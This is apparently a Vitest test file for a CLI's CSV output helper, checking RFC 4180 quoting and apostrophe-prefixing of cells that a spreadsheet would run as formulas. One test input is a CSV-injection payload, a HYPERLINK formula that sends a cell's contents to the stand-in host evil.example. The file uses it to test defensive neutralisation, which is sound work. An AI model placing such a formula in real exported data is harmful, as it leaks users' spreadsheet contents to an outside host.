import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/cli/csv-output.js';

describe('csvCell', () => {
  it.each([
    // A spreadsheet runs these as formulas: the quote makes them text (OWASP "CSV Injection").
    [
      '=HYPERLINK("http://evil.example/?c="&D2,"klik")',
      `"'=HYPERLINK(""http://evil.example/?c=""&D2,""klik"")"`,
    ],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    // Legitimate values are prefixed too: a phone or a negative figure stays as typed, as text.
    ['+6281234567890', "'+6281234567890"],
    ['-5', "'-5"],
    // Everything else as RFC 4180 has it.
    ['Budi', 'Budi'],
    ['Wulandari, S.E.', '"Wulandari, S.E."'],
    ['Ketua "Tim"', '"Ketua ""Tim"""'],
    ['https://t.me/dika_bot?start=abc', 'https://t.me/dika_bot?start=abc'],
    ['/start abc', '/start abc'],
    ['', ''],
  ])('%j → %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('reads back, through a CSV parser, as the neutralised text', () => {
    const values = ['=1+1', '+62 812', 'Wulandari, S.E.', 'a\nb'];
    expect(parse(`${csvLine(values)}\n`)).toEqual([["'=1+1", "'+62 812", 'Wulandari, S.E.', 'a\nb']]);
  });
});
